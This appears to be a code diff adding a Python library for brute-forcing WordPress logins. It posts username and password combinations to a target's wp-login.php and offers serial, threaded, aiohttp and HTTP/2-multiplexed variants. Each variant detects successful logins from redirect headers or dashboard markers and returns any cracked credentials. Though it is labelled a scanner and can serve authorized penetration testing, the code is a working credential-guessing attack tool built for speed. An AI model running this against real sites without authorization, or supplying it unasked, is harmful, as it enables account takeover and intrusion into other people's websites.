@@ -0,0 +1,435 @@
+"""Brute-force login scanner (library variant of the scanner.py CLI)."""
+import asyncio
+import importlib.util
+import logging
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from itertools import count, product
+from types import MappingProxyType
+from typing import Dict, List, Optional, Tuple
+
+import requests
+from requests.adapters import HTTPAdapter
+
+from src.utils.rate_limiter import LeakyBucketRateLimiter
+
+try:
+    import aiohttp
+except ImportError:
+    aiohttp = None
+
+try:
+    import httpx
+except ImportError:
+    httpx = None
+
+# httpx raises ImportError when AsyncClient(http2=True) is constructed
+# without the h2 extra, so HTTP/2 capability requires both packages
+_HTTP2_AVAILABLE = httpx is not None and importlib.util.find_spec("h2") is not None
+
+logger = logging.getLogger(__name__)
+
+# The indicators all appear in the head of the page (or the redirect
+# target), so only this much of each response is ever downloaded
+MAX_SNIFF = 16384
+
+success_indicators = [
+    r"wp-admin",
+    r"dashboard",
+    r"welcome",
+    r"logout",
+    r"wp-admin-bar",
+    r"admin-menu",
+    r"screen-options"
+]
+rate_limit_indicators = [
+    r"too many",
+    r"rate limit",
+    r"temporarily locked",
+    r"try again later",
+    r"slow down"
+]
+
+# Module-level session shared by every attempt: keep-alive sockets are
+# reused across the whole username/password grid instead of tearing down
+# TCP+TLS per request. Default headers are set once so the dict is not
+# re-merged per call.
+# Built once and never mutated (MappingProxyType); the session merge
+# below means per-request header handling only sees caller overrides
+DEFAULT_HEADERS = MappingProxyType({
+    "User-Agent": "Mozilla/5.0 (compatible; WPScanner/1.0)",
+    "Content-Type": "application/x-www-form-urlencoded; charset=UTF-8",
+    # The pages we sniff are small; skipping gzip avoids decompression
+    # on every response and keeps raw.read offsets meaning body bytes
+    "Accept-Encoding": "identity"
+})
+
+_SESSION = requests.Session()
+_adapter = HTTPAdapter(pool_connections=10, pool_maxsize=10, max_retries=0)
+_SESSION.mount("http://", _adapter)
+_SESSION.mount("https://", _adapter)
+_SESSION.headers.update(DEFAULT_HEADERS)
+
+
+# The constant form fields (and the redirect_to f-string) are built once
+# per scan; each attempt only merges in the changing credentials
+def _base_data(login_url: str) -> Dict:
+    return {
+        "wp-submit": "Log In",
+        "redirect_to": f"{login_url}/wp-admin/",
+        "testcookie": 1
+    }
+
+
+# Needles pre-lowercased and pre-encoded at import. bytes.find runs
+# CPython's C memmem (two-way/BMH), so a handful of scans over 16 KB
+# beats regex machinery; hits are OR-ed into a bitmask so the verdict
+# is one mask test rather than per-pattern branching.
+SUCCESS_NEEDLES = tuple(s.lower().encode() for s in success_indicators)
+RATE_LIMIT_NEEDLES = tuple(s.lower().encode() for s in rate_limit_indicators)
+_URL_NEEDLES = SUCCESS_NEEDLES[:2]
+
+
+def _needle_mask(body: bytes, needles: Tuple[bytes, ...]) -> int:
+    mask = 0
+    for i, needle in enumerate(needles):
+        if body.find(needle) != -1:
+            mask |= 1 << i
+    return mask
+
+
+def _classify_response(body: bytes, url: str) -> Tuple[bool, bool]:
+    body = body[:MAX_SNIFF].lower()
+    if _needle_mask(body, RATE_LIMIT_NEEDLES):
+        return False, True
+    url_bytes = url.lower().encode("utf-8", errors="ignore")
+    if _needle_mask(url_bytes, _URL_NEEDLES):
+        return True, False
+    return bool(_needle_mask(body, SUCCESS_NEEDLES)), False
+
+
+def check_credentials(
+    login_url: str,
+    username: str,
+    password: str,
+    headers: Optional[Dict] = None,
+    timeout: int = 5,
+    session: Optional[requests.Session] = None,
+    base_data: Optional[Dict] = None
+) -> Tuple[bool, bool]:
+    """Try one username/password pair.
+
+    Returns (is_valid, is_rate_limited).
+    """
+    session = session or _SESSION
+    data = {**(base_data if base_data is not None else _base_data(login_url)), "log": username, "pwd": password}
+
+    try:
+        response = session.post(login_url, data=data, headers=headers,
+                                timeout=timeout, stream=True,
+                                allow_redirects=False)
+        # A successful login answers with a 302 to wp-admin; reading the
+        # Location header settles it without following the redirect or
+        # touching the body
+        location = response.headers.get("Location", "")
+        if location and _needle_mask(location.lower().encode(), _URL_NEEDLES):
+            response.close()
+            return True, False
+        body = response.raw.read(MAX_SNIFF, decode_content=True)
+        response.close()
+    except requests.RequestException as e:
+        logger.debug("Request failed for %s:%s: %s", username, password, e)
+        return False, False
+
+    return _classify_response(body, location)
+
+
+async def _check_async(session, login_url: str, username: str, password: str, base_data: Dict) -> Tuple[bool, bool]:
+    """aiohttp twin of check_credentials."""
+    try:
+        async with session.post(login_url, data={**base_data, "log": username, "pwd": password},
+                                timeout=aiohttp.ClientTimeout(total=5),
+                                allow_redirects=False) as response:
+            location = response.headers.get("Location", "")
+            if location and _needle_mask(location.lower().encode(), _URL_NEEDLES):
+                return True, False
+            body = await response.content.read(MAX_SNIFF)
+            return _classify_response(body, location)
+    except (aiohttp.ClientError, asyncio.TimeoutError) as e:
+        logger.debug("Request failed for %s:%s: %s", username, password, e)
+        return False, False
+
+
+async def detect_bruteforce_async(
+    target_url: str,
+    usernames: List[str],
+    passwords: List[str],
+    max_workers: int = 10,
+    delay: float = 0.0
+) -> Dict:
+    """Concurrent brute-force sweep: one event loop multiplexes up to
+    max_workers in-flight attempts over a pooled aiohttp connector."""
+    login_url = f"{target_url.rstrip('/')}/wp-login.php"
+    credentials_found = []
+    usernames_tested = list(usernames)
+    sem = asyncio.Semaphore(max_workers)
+    base_data = _base_data(login_url)
+    # Set per username on the first hit so queued attempts for that user
+    # become no-ops instead of wasted requests
+    found = {username: asyncio.Event() for username in usernames}
+
+    connector = aiohttp.TCPConnector(limit=max_workers, keepalive_timeout=30)
+    headers = {"User-Agent": "Mozilla/5.0 (compatible; WPScanner/1.0)"}
+    async with aiohttp.ClientSession(connector=connector, headers=headers) as session:
+
+        async def attempt(username: str, password: str):
+            if found[username].is_set():
+                return
+            async with sem:
+                if found[username].is_set():
+                    return
+                if delay:
+                    await asyncio.sleep(delay)
+                is_valid, is_rate_limited = await _check_async(session, login_url, username, password, base_data)
+                if is_rate_limited:
+                    logger.warning("Rate limiting detected")
+                elif is_valid:
+                    logger.info("Valid credentials found: %s", username)
+                    credentials_found.append({"username": username, "password": password})
+                    found[username].set()
+
+        await asyncio.gather(*[attempt(u, p) for u, p in product(usernames, passwords)])
+
+    return {
+        "type": "Brute-force Login",
+        "detected": bool(credentials_found),
+        "vector": "/wp-login.php",
+        "usernames_tested": usernames_tested,
+        "credentials_found": credentials_found,
+        "confidence": "high" if credentials_found else "low"
+    }
+
+
+def detect_bruteforce_concurrent(*args, **kwargs) -> Dict:
+    """Sync wrapper for callers that are not running an event loop."""
+    return asyncio.run(detect_bruteforce_async(*args, **kwargs))
+
+
+async def detect_bruteforce_http2(
+    target_url: str,
+    usernames: List[str],
+    passwords: List[str],
+    max_workers: int = 10,
+    delay: float = 0.0
+) -> Dict:
+    """Brute-force sweep multiplexed over a single HTTP/2 connection.
+
+    With h2, in-flight parallelism comes from stream multiplexing rather
+    than parallel sockets: one TLS handshake serves the whole grid. httpx
+    falls back to HTTP/1.1 keep-alive when the target does not speak h2,
+    but the client itself needs the h2 extra — without it the
+    constructor raises ImportError, so this path degrades to the aiohttp
+    (or serial) sweep instead.
+    """
+    if not _HTTP2_AVAILABLE:
+        logger.warning("httpx h2 extra not installed; "
+                       "falling back from HTTP/2 to the standard sweep")
+        if aiohttp is not None:
+            return await detect_bruteforce_async(
+                target_url, usernames, passwords,
+                max_workers=max_workers, delay=delay)
+        return detect_bruteforce(target_url, usernames, passwords, delay=delay)
+
+    credentials_found = []
+    usernames_tested = list(dict.fromkeys(usernames))
+    sem = asyncio.Semaphore(max_workers)
+    base_data = _base_data(f"{target_url.rstrip('/')}/wp-login.php")
+    found = {username: asyncio.Event() for username in usernames}
+
+    limits = httpx.Limits(max_connections=2, max_keepalive_connections=2)
+    async with httpx.AsyncClient(http2=True, base_url=target_url.rstrip("/"),
+                                 headers=dict(DEFAULT_HEADERS), limits=limits,
+                                 timeout=5.0) as client:
+
+        async def attempt(username: str, password: str):
+            if found[username].is_set():
+                return
+            async with sem:
+                if found[username].is_set():
+                    return
+                if delay:
+                    await asyncio.sleep(delay)
+                try:
+                    response = await client.post(
+                        "/wp-login.php", data={**base_data, "log": username, "pwd": password})
+                except httpx.HTTPError as e:
+                    logger.debug("Request failed for %s:%s: %s", username, password, e)
+                    return
+                # httpx does not follow redirects by default, so the
+                # Location header is available directly
+                is_valid, is_rate_limited = _classify_response(
+                    response.content, response.headers.get("Location", ""))
+                if is_rate_limited:
+                    logger.warning("Rate limiting detected")
+                elif is_valid:
+                    logger.info("Valid credentials found: %s", username)
+                    credentials_found.append({"username": username, "password": password})
+                    found[username].set()
+
+        await asyncio.gather(*[attempt(u, p) for u, p in product(usernames, passwords)])
+
+    return {
+        "type": "Brute-force Login",
+        "detected": bool(credentials_found),
+        "vector": "/wp-login.php",
+        "usernames_tested": usernames_tested,
+        "credentials_found": credentials_found,
+        "confidence": "high" if credentials_found else "low"
+    }
+
+
+def detect_bruteforce_parallel(
+    target_url: str,
+    usernames: List[str],
+    passwords: List[str],
+    max_workers: int = 10,
+    max_attempts: Optional[int] = None,
+    executor: Optional[ThreadPoolExecutor] = None
+) -> Dict:
+    """Threaded brute-force sweep over a single shared executor.
+
+    The whole username/password grid is fed to one pool via
+    itertools.product, so workers stay saturated across users instead of
+    draining between per-user batches. Hits and rate limits cancel the
+    not-yet-started futures they make redundant.
+
+    Pass an executor to share one pool across scanner phases; thread
+    startup is then paid once per scan, not once per phase. The caller
+    keeps ownership and is responsible for shutdown.
+    """
+    login_url = f"{target_url.rstrip('/')}/wp-login.php"
+
+    credentials_found = []
+    usernames_tested = list(dict.fromkeys(usernames))
+    base_data = _base_data(login_url)
+    cracked = set()
+
+    # next() on a count object is a single C-level call, atomic under
+    # the GIL, so workers can claim attempt numbers without a lock; the
+    # Event makes already-queued workers exit promptly once the budget
+    # is spent
+    attempt_counter = count(1)
+    stop = threading.Event()
+
+    def attempt(username: str, password: str) -> Tuple[bool, bool]:
+        if stop.is_set():
+            return False, False
+        if max_attempts is not None and next(attempt_counter) > max_attempts:
+            logger.info("Reached max attempts (%d), stopping", max_attempts)
+            stop.set()
+            return False, False
+        return check_credentials(login_url, username, password, base_data=base_data)
+
+    own_executor = executor is None
+    if own_executor:
+        executor = ThreadPoolExecutor(max_workers=max_workers)
+    try:
+        futures = {
+            executor.submit(attempt, username, password): (username, password)
+            for username, password in product(usernames, passwords)
+        }
+        for future in as_completed(futures):
+            username, password = futures[future]
+            if username in cracked:
+                continue
+            is_valid, is_rate_limited = future.result()
+            if is_rate_limited:
+                logger.warning("Rate limiting detected, cancelling remaining attempts")
+                stop.set()
+                for pending in futures:
+                    pending.cancel()
+                break
+            if is_valid:
+                logger.info("Valid credentials found: %s", username)
+                credentials_found.append({"username": username, "password": password})
+                cracked.add(username)
+                for pending, (u, _) in futures.items():
+                    if u == username:
+                        pending.cancel()
+    finally:
+        if own_executor:
+            executor.shutdown(wait=True)
+
+    return {
+        "type": "Brute-force Login",
+        "detected": bool(credentials_found),
+        "vector": "/wp-login.php",
+        "usernames_tested": usernames_tested,
+        "credentials_found": credentials_found,
+        "confidence": "high" if credentials_found else "low"
+    }
+
+
+def detect_bruteforce(
+    target_url: str,
+    usernames: List[str],
+    passwords: List[str],
+    delay: float = 0.0,
+    max_attempts: Optional[int] = None,
+    rate_limiter: Optional[LeakyBucketRateLimiter] = None
+) -> Dict:
+    """Run a serial brute-force sweep over the username/password grid."""
+    login_url = f"{target_url.rstrip('/')}/wp-login.php"
+
+    # A delay now means a sustained rate of 1/delay with burst allowance,
+    # not a mandatory sleep between every pair of requests
+    if rate_limiter is None and delay > 0:
+        rate_limiter = LeakyBucketRateLimiter(rate=1.0 / delay, capacity=max(10, int(2 / delay)))
+
+    credentials_found = []
+    usernames_tested = []
+    _seen = set()  # O(1) membership; the list preserves first-seen order
+    attempt_count = 0
+    base_data = _base_data(login_url)
+
+    for username in usernames:
+        if username not in _seen:
+            _seen.add(username)
+            usernames_tested.append(username)
+
+        for password in passwords:
+            if max_attempts is not None and attempt_count >= max_attempts:
+                logger.info("Reached max attempts (%d), stopping", max_attempts)
+                break
+
+            attempt_count += 1
+            logger.debug("Attempt %d: Testing %s:%s", attempt_count, username, password)
+
+            if rate_limiter is not None:
+                wait_time = rate_limiter.acquire()
+                if wait_time and logger.isEnabledFor(logging.DEBUG):
+                    logger.debug("Rate limited: waited %.2fs", wait_time)
+
+            is_valid, is_rate_limited = check_credentials(login_url, username, password, base_data=base_data)
+
+            if is_rate_limited:
+                logger.warning("Rate limiting detected, backing off")
+                time.sleep(max(delay, 1.0))
+                break
+
+            if is_valid:
+                logger.info("Valid credentials found: %s", username)
+                credentials_found.append({"username": username, "password": password})
+                # One hit per user is enough for detection; skip the rest
+                # of the password list
+                break
+
+    return {
+        "type": "Brute-force Login",
+        "detected": bool(credentials_found),
+        "vector": "/wp-login.php",
+        "usernames_tested": usernames_tested,
+        "credentials_found": credentials_found,
+        "confidence": "high" if credentials_found else "low"
+    }